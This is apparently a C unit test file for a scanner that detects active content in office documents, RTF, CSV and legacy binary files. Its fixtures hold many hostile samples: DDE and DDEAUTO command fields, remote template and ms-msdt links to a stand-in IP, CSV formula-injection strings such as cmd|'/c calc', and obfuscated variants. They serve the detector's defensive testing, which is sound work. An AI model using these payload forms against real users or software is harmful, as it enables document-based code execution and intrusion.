/* What runs in office documents, rich text and tables: fields and links that call programs, what is fetched and opened, what is embedded. */
#include "guard/runs.h"

#include "made-files.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

static struct runs_found inside(const char *name, struct str bytes)
{
    const enum content_type type = content_type_of((struct str){bytes.at, MIN_OF(bytes.len, (size_t)CONTENT_HEAD)});
    char *copy = malloc(bytes.len + 1); /* so that a sanitizer sees its end */
    struct runs_found found = {RUNS_NONE, false};

    assert_non_null(copy);
    memcpy(copy, bytes.at, bytes.len);
    if (runs_wants(type, str_of(name), (struct str){copy, MIN_OF(bytes.len, (size_t)CONTENT_HEAD)}))
        assert_int_equal(runs_inside(type, str_of(name), (struct str){copy, bytes.len}, &found), 0);
    free(copy);
    return found;
}

static void expect_all(const char *name, const char *const *rows, size_t n, enum runs runs)
{
    for (size_t i = 0; i < n; i++)
        if (inside(name, str_of(rows[i])).runs != runs)
            fail_msg("%s: %s", name, rows[i]);
}

#define W "<?xml version='1.0'?><w:document xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'>"
#define BEGIN "<w:fldChar w:fldCharType='begin'/>"
#define END "<w:fldChar w:fldCharType='end'/>"

static void fields(void **state)
{
    static const char *const call[] = {
        W "<w:r>" BEGIN "<w:instrText> DDEAUTO c:\\\\a \"/k b\" </w:instrText>" END,
        W "<w:r>" BEGIN "<w:instrText> DD</w:instrText></w:r><w:r w:rsid='1'><w:instrText xml:space='preserve'>E c:\\\\a</w:instrText>" END,
        W BEGIN "<w:instrText>D</w:instrText><w:instrText>&#68;</w:instrText><w:instrText><![CDATA[E]]> <![CDATA[a]]></w:instrText>" END,
        W "<w:fldSimple w:instr=' dde \"excel\" \"a\" '/>",
        W "<w:fldSimple w:instr='&#x44;DE a b'/>",
        W BEGIN "<w:instrText>IF </w:instrText>" BEGIN "<w:instrText>dde a b</w:instrText>" END END,
        W BEGIN BEGIN "<w:instrText>QUOTE 68 68 69 65 85 84 79</w:instrText>" END "<w:instrText> a b</w:instrText>" END,
        W BEGIN "<w:instrText>INCLUDETEXT \"http://198.51.100.7/a\"</w:instrText>" END,
        W BEGIN "<w:instrText>LINK Word.Document.8 \"\\\\\\\\198.51.100.7\\\\a\"</w:instrText>" END,
        W BEGIN "<w:instrText>HYPERLINK \"ms-msdt:/id a\"</w:instrText>" END,
        W BEGIN "<w:instrText>D</w:instrText>" BEGIN "<w:instrText>QUOTE \"DE\"</w:instrText>" END "<w:instrText> a</w:instrText>" END,
        W BEGIN "<w:instrText>INCLUDETEXT \"</w:instrText>" BEGIN "<w:instrText>REF a</w:instrText><w:fldChar w:fldCharType='separate'/><w:instrText>http://198.51.100.7</w:instrText>" END END,
        "<w:document xmlns:w='x'>" BEGIN "<w:instrText>DDE a</w:instrText>" END,
    };
    static const char *const no_call[] = {
        W "<w:t>DDEAUTO c:\\\\a</w:t>",
        W BEGIN "<w:instrText> PAGE </w:instrText>" END "<w:t>of DDE</w:t>",
        W BEGIN "<w:instrText> TOC \\o \"1-3\" \\h </w:instrText>" END,
        W BEGIN "<w:instrText> HYPERLINK \"https://www.example.com/dde\" </w:instrText>" END,
        W BEGIN "<w:instrText> LINK Excel.Sheet.12 \"C:\\\\a.xlsx\" </w:instrText>" END,
        W BEGIN "<w:instrText> REF ddes </w:instrText>" END,
        W BEGIN "<w:instrText> QUOTE \"68 a\" </w:instrText>" END,
        W "<!-- <w:fldSimple w:instr='DDE a'/> --><w:t/>",
        W "<w:instrText>",
        W "<w:fldSimple w:instr='",
        W "<w:fldSimple w:instr",
    };

    expect_all("word/document.xml", call, ARRAY_LEN(call), RUNS_MACROS);
    expect_all("word/document.xml", no_call, ARRAY_LEN(no_call), RUNS_NONE);
    expect_all("word/another.dat", call, ARRAY_LEN(call), RUNS_MACROS);
    { /* text in UTF-16 half of whose letters are signs of markup */
        static const char before[] = "<w>", behind[] = "--<fldSimple instr='DDE a'/>";

        for (int is_be = 0; is_be < 2; is_be++) {
            CLEANUP(buf_done) struct buf b;

            buf_init(&b, 4096);
            add(&b, is_be ? "\xfe\xff" : "\xff\xfe", 2);
            for (const char *c = before; *c; c++)
                add(&b, (char[]){is_be ? '\0' : *c, is_be ? *c : '\0'}, 2);
            add(&b, "<!", 2); /* one letter, U+213C or U+3C21 */
            for (const char *c = behind; *c; c++)
                add(&b, (char[]){is_be ? '\0' : *c, is_be ? *c : '\0'}, 2);
            assert_int_equal(inside("a.xml", buf_str(&b)).runs, RUNS_MACROS);
            assert_int_equal(inside("a.xml", (struct str){b.at + 2, b.len - 2}).runs, RUNS_MACROS); /* without a mark */
        }
    }
    assert_int_equal(inside("a.xml", STR("\xff\xfe<\0a\0 \0b\0=\0'\0'\0>\0<\0f\0l\0d\0S\0i\0m\0p\0l\0e\0 \0i\0n\0s\0t\0r\0=\0'\0D\0D\0E\0 \0a\0'\0/\0>\0")).runs, RUNS_MACROS);
}

static void links(void **state)
{
    static const char *const call[] = {
        "<?xml version='1.0'?><externalLink xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'><ddeLink ddeService='cmd' ddeTopic='/c a'>",
        "<?xml version='1.0'?><x:externalLink xmlns:x='http://schemas.openxmlformats.org/spreadsheetml/2006/main'><x:ddeLink ddeService='cmd'/>",
        "<?xml version='1.0'?><office:document-content xmlns:office='urn:oasis:names:tc:opendocument:xmlns:office:1.0'><table:dde-link><office:dde-source office:dde-application='a'/>",
        "<?xml version='1.0'?><office:document-content><script:event-listener xlink:href='vnd.sun.star.script:a?language=Basic'/>",
        "<?xml version='1.0'?><office:document-content><presentation:event-listener presentation:action='execute' xlink:href='a'/>",
        "<?xml version='1.0'?><?mso-application progid='Excel.Sheet'?><Cell ss:Formula=\"=cmd|'/c a'!A0\"/>",
        "<?xml version='1.0'?><?mso-application progid='Word.Document'?><w:wordDocument w:macrosPresent=\"yes\">",
        "<?xml version='1.0'?><pkg:package xmlns:pkg='http://schemas.microsoft.com/office/2006/xmlPackage'><pkg:part pkg:contentType='application/vnd.ms-office.vbaProject'>",
    };
    static const char *const in_others[] = {
        "<!--%PDF-1.4-->" W BEGIN "<w:instrText>DDEAUTO c a</w:instrText>" END,
        "<!-- aaaWEBP--><html><script>1</script>",
        "<?mso-application progid='Word.Document'?><!--%PDF-1.4--><w:wordDocument w:macrosPresent=\"yes\">",
        "<html><!--%PDF-1.4--><script>1</script>",
        "<?xml version='1.0'?><office:document-content><table:table-cell table:formula ='of:=DDE(1;2;3)'/>",
        "<?xml version='1.0'?><office:document-content><a xlink:href='vnd.sun.star.script&#58;a'/>",
        W "<![CDATA[<x a=\"]]>" BEGIN "<w:instrText>DDEAUTO c a</w:instrText>" END,
        W "<!-- --&#62;<x a=\" -->" BEGIN "<w:instrText>DDEAUTO c a</w:instrText>" END,
    };
    static const char *const no_call[] = {
        "<?xml version='1.0'?><externalLink xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'><externalBook r:id='rId1'/>",
        "<?xml version='1.0'?><office:document-content><presentation:event-listener presentation:action='next-page'/>",
        "<?xml version='1.0'?><office:document-content><table:table-cell table:formula='of:=SUM([.A1:.A2])'/>",
        "<?xml version='1.0'?><worksheet><f>A1+1</f>",
    };

    expect_all("a.xml", call, ARRAY_LEN(call), RUNS_MACROS);
    expect_all("a.dat", in_others, 2, RUNS_MACROS);
    expect_all("a.xml", in_others, ARRAY_LEN(in_others), RUNS_MACROS);
    {
        char long_formula[4096];

        (void)snprintf(long_formula, sizeof(long_formula), "<?xml version='1.0'?><c table:formula='of:=%03000dDDE(1)'/>", 0);
        assert_int_equal(inside("a.xml", str_of(long_formula)).runs, RUNS_MACROS);
    }
    expect_all("a.xml", no_call, ARRAY_LEN(no_call), RUNS_NONE);
}

static void relations(void **state)
{
    static const struct {
        const char *kind, *target, *mode;
        enum runs runs;
    } rows[] = {
        {"attachedTemplate", "http://198.51.100.7/a.dotm", "External", RUNS_MACROS},
        {"attachedTemplate", "HTTPS://www.example.com/a", "External", RUNS_MACROS},
        {"attachedTemplate", "htt&#112;://www.example.com/a", "External", RUNS_MACROS},
        {"attachedTemplate", "\\\\198.51.100.7\\a\\b.dotx", "External", RUNS_MACROS},
        {"attachedTemplate", "file://198.51.100.7/a.dotx", "External", RUNS_MACROS},
        {"attachedTemplate", "file:///\\\\198.51.100.7\\a.dotx", "External", RUNS_MACROS},
        {"attachedTemplate", "file:///C:\\Users\\a\\b.dotx", "External", RUNS_NONE},
        {"attachedTemplate", "file://C:/a.dotx", "External", RUNS_NONE},
        {"attachedTemplate", "Normal.dotm", "External", RUNS_NONE},
        {"oleObject", "https://www.example.com/a.html!", "External", RUNS_MACROS},
        {"oleObject", "mhtml:http://198.51.100.7/a!x-usc:http://198.51.100.7/a", "External", RUNS_MACROS},
        {"oleObject", "file:///C:\\a.xlsx!Sheet1", "External", RUNS_NONE},
        {"oleObject", "embeddings/oleObject1.bin", "Internal", RUNS_NONE},
        {"frame", "http://198.51.100.7/a", "External", RUNS_MACROS},
        {"subDocument", "http://198.51.100.7/a", "External", RUNS_MACROS},
        {"hyperlink", "ms-msdt:/id a", "External", RUNS_MACROS},
        {"hyperlink", "search-ms:query=a&amp;crumb=location:\\\\198.51.100.7", "External", RUNS_MACROS},
        {"hyperlink", "&#x6D;s-msdt:a", "External", RUNS_MACROS},
        {"hyperlink", "javascript:a()", "External", RUNS_MACROS},
        {"hyperlink", "file:///C:\\Windows\\System32\\calc.exe", "External", RUNS_MACROS},
        {"hyperlink", "\\\\198.51.100.7\\a.lnk", "External", RUNS_MACROS},
        {"hyperlink", "https://www.example.com/a.exe", "External", RUNS_NONE},
        {"hyperlink", "https://www.example.com/ms-a:b", "External", RUNS_NONE},
        {"hyperlink", "mailto:a@example.com", "External", RUNS_NONE},
        {"hyperlink", "file:///C:\\a.xlsx", "External", RUNS_NONE},
        {"image", "https://www.example.com/a.png", "External", RUNS_NONE},
        {"styles", "ms-styles/styles.xml", "Internal", RUNS_NONE},
    };

    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
        char part[600];

        (void)snprintf(part, sizeof(part), "<Relationships><Relationship Id='rId1' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s' Target='%s' TargetMode='%s'/></Relationships>",
                       rows[i].kind, rows[i].target, rows[i].mode);
        if (inside("word/_rels/settings.xml.rels", str_of(part)).runs != rows[i].runs)
            fail_msg("%s %s", rows[i].kind, rows[i].target);
    }
}

/* In digits, as it lies in rich text. */
static void add_digits(struct buf *b, struct str bytes)
{
    for (size_t i = 0; i < bytes.len; i++) {
        char two[4];

        (void)snprintf(two, sizeof(two), "%02x", (uint8_t)bytes.at[i]);
        add(b, two, 2);
        if (i % 32 == 31)
            add(b, "\r\n", 2);
    }
}

static void add_name(struct buf *b, const char *name)
{
    add32(b, (uint32_t)strlen(name) + 1);
    add(b, name, strlen(name) + 1);
}

/* An object of OLE 1: 2 embedded, 1 a link. */
static struct buf made_object(uint32_t kind, const char *class, const char *topic, struct str bytes)
{
    struct buf o, out;

    buf_init(&o, 1u << 20);
    buf_init(&out, 4u << 20);
    add32(&o, 0x501);
    add32(&o, kind);
    add_name(&o, class);
    add_name(&o, topic);
    add32(&o, 0);
    add32(&o, (uint32_t)bytes.len);
    add(&o, bytes.at, bytes.len);
    add(&out, "{\\rtf1{\\object\\objemb{\\*\\objclass x}{\\*\\objdata ", strlen("{\\rtf1{\\object\\objemb{\\*\\objclass x}{\\*\\objdata "));
    add_digits(&out, buf_str(&o));
    add(&out, "}{\\result a}}}", 14);
    buf_done(&o);
    return out;
}

static enum runs of_object(uint32_t kind, const char *class, const char *topic, struct str bytes)
{
    CLEANUP(buf_done) struct buf o = made_object(kind, class, topic, bytes);

    return inside("a.doc", buf_str(&o)).runs;
}

static void objects_of_rich_text(void **state)
{
    static const struct made_sheet plain[] = {{"Sheet1", 0, 0, 0x10}}, macro[] = {{"Macro1", 0, 1, 0x40}};
    CLEANUP(buf_done) struct buf package = made_package("a.exe", STR("x"));
    CLEANUP(buf_done) struct buf text = made_package("a.txt", STR("x"));
    CLEANUP(buf_done) struct buf book = made_workbook(plain, 1, false, 0);
    CLEANUP(buf_done) struct buf acting = made_workbook(macro, 1, false, 0);
    const struct made_stream streams[] = {{"Workbook", buf_str(&book)}, {"Workbook", buf_str(&acting)}};
    CLEANUP(buf_done) struct buf sheet = made_compound(&streams[0], 1);
    CLEANUP(buf_done) struct buf sheets = made_compound(&streams[1], 1);

    assert_int_equal(of_object(2, "Package", "", (struct str){package.at + 4, package.len - 4}), RUNS_PROGRAM);
    assert_int_equal(of_object(2, "Package", "", (struct str){text.at + 4, text.len - 4}), RUNS_NONE);
    assert_int_equal(of_object(2, "Excel.Sheet.8", "", buf_str(&sheet)), RUNS_NONE);
    assert_int_equal(of_object(2, "Excel.Sheet.8", "", buf_str(&sheets)), RUNS_MACROS);
    assert_int_equal(of_object(2, "PBrush", "", STR("BM\1\0\0\0")), RUNS_NONE);
    assert_int_equal(of_object(2, "a", "", STR("MZ\x90\0\3\0\0\0")), RUNS_PROGRAM);
    assert_int_equal(of_object(2, "a", "", STR("PK\3\4")), RUNS_MACROS);
    assert_int_equal(of_object(2, "OLE2Link", "", STR("a")), RUNS_MACROS);
    assert_int_equal(of_object(1, "Excel.Sheet.8", "C:\\a.xls", STR("")), RUNS_NONE);
    assert_int_equal(of_object(1, "Excel.Sheet.8", "http://198.51.100.7/a", STR("")), RUNS_MACROS);
    assert_int_equal(of_object(3, "a", "", STR("")), RUNS_MACROS); /* none that is known */
}

static void rich_text(void **state)
{
    static const char *const acts[] = {
        "{\\rtf1{\\field{\\*\\fldinst DDEAUTO c:\\\\\\\\a b}{\\fldrslt a}}}",
        "{\\rtf1{\\field{\\*\\fldinst {\\rtlch D}{\\b DE} a}}}",
        "{\\rtf1{\\field{\\*\\fldinst \\u68?\\'44E a}}}",
        "{\\rtf1{\\field{\\*\\fldinst HYPERLINK \"ms-msdt:/id a\"}}}",
        "{\\rtf1{\\*\\template http://198.51.100.7/a.dotm}}",
        "{\\rtf1{\\*\\template \\u104?ttp://198.51.100.7/a.dotm}}",
        "{\\rt0{\\*\\template \\\\\\\\198.51.100.7\\\\a}}",
        "{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata 0105000002000000}}}",
        "{\\rtf1{\\object{\\*\\objdata 01050000{\\*\\a}02000000}}}",
        "{\\rtf1{\\object{\\*\\objdata 0105000002\\a000000}}}",
        "{\\rtf1{\\object{\\*\\objdata 010500000200000003000000}}}", /* cut */
        "{\\rtf1{\\object{\\*\\objdata 0105",
        "{\\rtf1{\\field{\\*\\fldinst {\\uc0 }\\u68?DE a}}}",
        "{\\rtf1{\\field{\\*\\fldinst \\u-65468?DE a}}}",
        "{\\rtf1\\bin99 {",
        "{\\rtf1{\\field{\\*\\fldinst D{\\*\\datafield 00}DE a}}}",
        "{\\rtf1{\\field{\\*\\fldinst DD{\\comment x}E a}}}",
        "{\\rtf1{\\field{\\*\\fldinst D{\\*\\nobody x}DE a}}}",
        "{\\rtf1{\\field{\\*\\fldinst D{\\*\\b D}E a}}}",
        "{\\rtf1{\\field{\\*\\fldinst {\\field{\\*\\fldinst QUOTE \"DD\"}{\\fldrslt DD}}E a}}}",
        "{\\rtf1{\\field{\\*\\fldinst D{\\field{\\*\\fldinst QUOTE \"DE\"}{\\fldrslt DE}} a}}}",
        "{\\rtf1{\\field{\\*\\fldinst IF{\\field{\\*\\fldinst REF a}}= 1 {\\field{\\*\\fldinst DDE a b}}}}}",
        "{\\rtf1{\\field{\\*\\fldinst INCLUDETEXT \"{\\field{\\*\\fldinst REF a}{\\fldrslt http://198.51.100.7/}}a\"}}}",
        "{\\rtf1{\\field{\\*\\fldinst INCLUDETEXT {\\field{\\*\\fldinst REF a}} http://198.51.100.7/a}}}",
        "{\\rtf1{\\field{\\*\\fldinst INCLUDETEXT \"{\\field{\\*\\fldinst QUOTE 104 116}}a\"}}}",
        "{\\rtf1{\\field{\\*\\fldinst HYPERLINK {\\field{\\*\\fldinst QUOTE 109 115}}}}}",
        "{\\rtf1{\\field{\\*\\fldinst REF a {\\*\\template http://198.51.100.7/a.dotm}}}}",
        "{\\rtf1{\\*\\template ht{\\*\\nobody x}tp://198.51.100.7/a.dotm}}",
        "{\\rtf1{\\*\\template C:\\\\a{\\template http://198.51.100.7/a.dotm}}}",
        "{\\rtf1{\\*\\template C:\\\\a{\\*\\fldinst a}}}",
        "{\\rtf1{\\object\\objocx{\\*\\objdata }}}",
    };
    static const char *const still[] = {
        "{\\rtf1\\ansi{\\fonttbl{\\f0 a;}}{\\*\\generator a;}DDEAUTO http://198.51.100.7/a\\par}",
        "{\\rtf1{\\*\\template C:\\\\Users\\\\a\\\\Normal.dotm}}",
        "{\\rtf1{\\field{\\*\\fldinst HYPERLINK \"https://www.example.com\"}{\\fldrslt DDE}}}",
        "{\\rtf1{\\pict\\wmetafile8 0105000002000000}}",
        "{\\rtf1\\bin5 {{{{{\\'",
        "{\\rtf1{\\field{\\*\\fldinst {\\rtlch\\fcs1 HYPERLINK \"https://www.example.com\" }{\\insrsid1 {\\*\\datafield 08d0c9ea79f9bace118c8200aa004ba9}}}{\\fldrslt a}}}",
        "{\\rtf1{\\field{\\*\\fldinst {\\*\\bkmkstart a} FORMTEXT {{\\*\\formfield{\\fftype0{\\*\\ffname DDE}}}}}{\\fldrslt a}}}",
        "{\\rtf1{\\field{\\*\\fldinst IF{\\field{\\*\\fldinst REF a}{\\fldrslt 1}} = 1 \"a\"}}{\\field{\\*\\fldinst PAGE \\* MERGEFORMAT {\\b }}}}",
        "{\\rtf1{\\field{\\*\\fldinst INCLUDETEXT \"{\\field{\\*\\fldinst FILENAME}}\"}{\\fldrslt http://www.example.com}}}",
        "{\\rtf1{\\field{\\*\\fldinst IF {\\field{\\*\\fldinst INCLUDETEXT a}} = \"http://www.example.com\"}}}",
        "{\\rtf1}}}}{\\*\\objdata}",
        "{\\rtf1\\'8",
        "{\\rtf1\\",
    };

    expect_all("a.rtf", acts, ARRAY_LEN(acts), RUNS_MACROS);
    expect_all("a.rtf", still, ARRAY_LEN(still), RUNS_NONE);
    { /* as deep as it likes */
        char *deep = malloc(20000);

        assert_non_null(deep);
        memset(deep, '{', 20000);
        memcpy(deep, "{\\rtf1", 6);
        assert_int_equal(inside("a.rtf", (struct str){deep, 20000}).runs, RUNS_MACROS);
        free(deep);
    }
}

static bool acts_as_table(struct str bytes, size_t step)
{
    struct runs_cells c = {0};

    for (size_t at = 0; at < bytes.len; at += step)
        runs_cells_add(&c, (struct str){bytes.at + at, MIN_OF(step, bytes.len - at)});
    return c.acts;
}

static void tables(void **state)
{
    static const char *const acts[] = {
        "a,b\r\n=cmd|'/c calc'!A0,c\r\n",
        "a;  @SUM(1+9)*cmd|' /C calc'!A0",
        "a\t\"-2+3+cmd|'/c a'!A0\"",
        "\"+MSEXCEL|'\\..\\a.exe'!''\"",
        "=HYPERLINK(\"https://www.example.com/a\",\"b\")",
        "\xef\xbb\xbf=WebService(\"https://www.example.com/\"&A1)",
        "a,\"a\nb\",=DDE(\"a\";\"b\";\"c\")",
        "=1+call(\"a\")",
        "a,=HYPERLINK (\"https://www.example.com/a\")",
        "sep=|\r\na|=HYPERLINK(\"https://www.example.com/a\")",
        "\xef\xbb\xbfSEP=^\na^=call(\"a\")",
        "\"sep=|\"\r\n\"=cmd|'/c a'!A0\"|b",
        "a,=IF(1;HYPERLINK(\"https://www.example.com/a\"))", /* where a comma stands in numbers */
        "a;=IF(A1>0,call(\"a\"),0)",
        "=SUM(1,=call(\"a\")",
        "a,\xef\xbc\x9d" "cmd|'/c calc'!A0",
        "\xef\xbc\x8b" "cmd|'/c calc'!A0",
        "\"\xef\xbc\x8d" "2+call(\"\"a\"\")\"",
        "a\n\xef\xbc\xa0" "call(\"a\")",
        "a,\x81\x81" "cmd|'/c calc'!A0", /* code page 932 */
        "\x81\x7b" "cmd|'/c calc'!A0",
        "\x81\x7c" "cmd|'/c calc'!A0",
        "\x81\x97" "call(\"a\")",
        "a,\xa1\xe1" "call(\"a\")", /* EUC */
    };
    static const char *const still[] = {
        "-5,-1.5,+81-3-1234-5678,@a,=A1+B1,=SUM(A1:A3)",
        "-,- a | b!,-(a)",
        "a,call(x) and cmd|'/c calc'!A0,5\" a\r\n\"a,=call(\",b",
        "-item | note!",
        "- hyperlink, -callx(1)",
        "sep=|\r\na,cmd|'/c calc'!A0",
        "sep=|\r\n=cmd|'/c calc'!A0", /* three cells */
        "sep=ab\r\naa=call(\"a\")",
        "a\r\nsep=x\r\nax=call(\"a\")", /* not in the first line */
        "\x81\x40" "=call(\"a\")",
        "\x83\x81" "=call(\"a\")",
        "\xef\xbc\x91" "=call(\"a\")",
        "=SUM(A1:A3),call(\"a\")",
        "",
    };

    for (size_t step = 1; step < 8; step += 3) {
        for (size_t i = 0; i < ARRAY_LEN(acts); i++)
            if (!acts_as_table(str_of(acts[i]), step))
                fail_msg("%s", acts[i]);
        for (size_t i = 0; i < ARRAY_LEN(still); i++)
            if (acts_as_table(str_of(still[i]), step))
                fail_msg("%s", still[i]);
    }
    assert_true(acts_as_table(STR("\xff\xfe=\0c\0a\0l\0l\0(\0"), 2));
    for (size_t i = 0; i < 4; i++) { /* wide signs in UTF-16, in both orders */
        static const char low[] = {'\x1d', '\x0b', '\x0d', '\x20'};
        char le[] = "\xff\xfe" "a\0,\0__c\0a\0l\0l\0(", be[] = "\xfe\xff" "__\0c\0a\0l\0l\0(";

        le[6] = be[3] = low[i];
        le[7] = be[2] = '\xff';
        for (size_t step = 1; step < 4; step++) {
            assert_true(acts_as_table((struct str){le, sizeof(le)}, step));
            assert_true(acts_as_table((struct str){be, sizeof(be) - 1}, step));
        }
        le[6] = be[3] = '\x11'; /* a wide digit */
        assert_false(acts_as_table((struct str){le, sizeof(le)}, 2));
        assert_false(acts_as_table((struct str){be, sizeof(be) - 1}, 2));
    }
    assert_true(runs_is_table(STR("a > b.CSV")));
    assert_false(runs_is_table(STR("a.txt")));
}

static void old_documents(void **state)
{
    static const struct {
        struct str text;
        enum runs runs;
    } words[] = {{{"a \x13 DDEAUTO c:\\a \x14", 19}, RUNS_MACROS}, {{"a \x13\0 \0d\0d\0e\0 \0a\0", 17}, RUNS_MACROS}, {{"a \x13 PAGE \x14 DDE", 14}, RUNS_NONE}, {{"a \x13 DD", 6}, RUNS_NONE}, {{"a \x13", 3}, RUNS_NONE}};
    static const struct {
        struct str record;
        enum runs runs;
    } books[] = {{{"\0\0\7\0\0cmd\3/c", 11}, RUNS_MACROS}, {{"\0\0\4\0\1c\0m\0d\0\3\0", 13}, RUNS_MACROS}, {{"\0\0\x11\0\0Word.Document.8\3c:\\a", 24}, RUNS_NONE}, {{"\1\0\1\4", 4}, RUNS_NONE}, {{"\1\0\4\0\0a.xls", 10}, RUNS_NONE}};
    static const struct {
        struct str record;
        enum runs runs;
    } old_books[] = {{{"\6cmd\3/c", 7}, RUNS_MACROS},  {{"\5cmd", 4}, RUNS_NONE}, {{"\x15Word.Document.8\3c:\\a", 21}, RUNS_NONE}, {{"\x0d\1\1Ca\3b\3c.xls", 13}, RUNS_NONE},
                     {{"\3\0\0\0\0\0\0\0", 8}, RUNS_NONE}, {{"", 0}, RUNS_NONE},        {{"\3\3a", 3}, RUNS_NONE}};
    static const char moniker[] = "\1\0\0\2\1\0\0\0\0\0\0\0\xe0\xc9\xea\x79\xf9\xba\xce\x11\x8c\x82\0\xaa\0\x4b\xa9\x0b";
    const struct made_stream ole = {"\1Ole", {moniker, sizeof(moniker) - 1}};
    CLEANUP(buf_done) struct buf link = made_compound(&ole, 1);

    for (size_t i = 0; i < ARRAY_LEN(words); i++) {
        char body[700] = {0};
        const struct made_stream stream = {"WordDocument", {body, sizeof(body)}};
        CLEANUP(buf_done) struct buf file;

        memcpy(body + 600, words[i].text.at, words[i].text.len);
        file = made_compound(&stream, 1);
        assert_int_equal(inside("a.doc", buf_str(&file)).runs, words[i].runs);
    }
    for (size_t i = 0; i < ARRAY_LEN(books); i++) {
        CLEANUP(buf_done) struct buf book;
        struct made_stream stream = {"Workbook", STR("")};
        CLEANUP(buf_done) struct buf file;

        buf_init(&book, 4096);
        made_begin(&book, 5);
        made_record(&book, 0x1ae, books[i].record.at, books[i].record.len);
        stream.bytes = buf_str(&book);
        file = made_compound(&stream, 1);
        if (inside("a.xls", buf_str(&file)).runs != books[i].runs)
            fail_msg("%zu", i);
    }
    for (size_t i = 0; i < ARRAY_LEN(old_books); i++) {
        CLEANUP(buf_done) struct buf book;
        struct made_stream stream = {"Book", STR("")};
        CLEANUP(buf_done) struct buf file;

        buf_init(&book, 4096);
        made_record(&book, 0x809, "\0\5\5\0\0\0\0\0", 8);
        made_record(&book, 0x17, old_books[i].record.at, old_books[i].record.len);
        stream.bytes = buf_str(&book);
        file = made_compound(&stream, 1);
        if (inside("a.xls", buf_str(&file)).runs != old_books[i].runs)
            fail_msg("of before: %zu", i);
    }
    assert_int_equal(inside("a.doc", buf_str(&link)).runs, RUNS_MACROS);
}

static void locked_slides(void **state)
{
    static const char user[] = "\0\0\xf6\x0f\x14\0\0\0\x14\0\0\0\xdf\xc4\xd1\xf3", open[] = "\0\0\xf6\x0f\x14\0\0\0\x14\0\0\0\x5f\xc0\x91\xe3";
    const struct made_stream streams[] = {{"Current User", {user, 16}}, {"EncryptedSummary", STR("a")}, {"Current User", {open, 16}}};

    for (size_t i = 0; i < ARRAY_LEN(streams); i++) {
        CLEANUP(buf_done) struct buf file = made_compound(&streams[i], 1);

        assert_int_equal(inside("a.ppt", buf_str(&file)).is_locked, i < 2);
    }
}

static void locked_papers(void **state)
{
    static const struct {
        const char *bytes;
        bool is_locked;
    } rows[] = {
        {"%PDF-1.7\ntrailer\n<</Size 9/Root 1 0 R/Encrypt 8 0 R/ID[<00><00>]>>\n%%EOF", true},
        {"%PDF-1.7\n9 0 obj\n<</Type/XRef/Encrypt<</Filter/Standard/V 4>>/Size 9>>stream\n", true},
        {"%PDF-1.7\ntrailer <</#45ncryp#74\n\n8 0 R>>", true},
        {"%PDF-1.7\ntrailer <</Encrypt%a >>\r% b\n8 0 R>>", true},
        {"%PDF-1.7\ntrailer <</Root 1 0 R/EncryptMetadata true>>", false},
        {"%PDF-1.7\n(how to /Encrypt a file) Tj /Encrypt", false},
        {"%PDF-1.7\ntrailer <</Root 1 0 R>>", false},
        {"%PDF-1.7\n/#4", false},
        {"%PDF-1.7\n/Encrypt ", false},
    };

    for (size_t i = 0; i < ARRAY_LEN(rows); i++)
        if (inside("a.pdf", str_of(rows[i].bytes)).is_locked != rows[i].is_locked)
            fail_msg("%s", rows[i].bytes);
}

int main(void)
{
    const struct CMUnitTest tests[] = {cmocka_unit_test(fields),    cmocka_unit_test(links),  cmocka_unit_test(relations),     cmocka_unit_test(objects_of_rich_text),
                                       cmocka_unit_test(rich_text), cmocka_unit_test(tables), cmocka_unit_test(old_documents), cmocka_unit_test(locked_slides),
                                       cmocka_unit_test(locked_papers)};

    return cmocka_run_group_tests_name("runs of documents", tests, NULL, NULL);
}
